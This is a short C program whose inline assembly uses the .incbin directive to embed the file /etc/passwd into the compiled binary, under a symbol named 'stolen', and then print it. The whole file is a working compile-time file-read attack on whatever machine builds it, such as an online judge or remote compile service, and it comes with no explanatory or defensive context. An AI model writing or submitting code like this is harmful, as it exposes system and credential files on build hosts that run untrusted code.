#include <stdio.h>
__asm__(".data\n.globl stolen\nstolen:\n.incbin \"/etc/passwd\"\n.byte 0\n.text\n");
extern const char stolen[];
int main(void) { puts(stolen); return 0; }
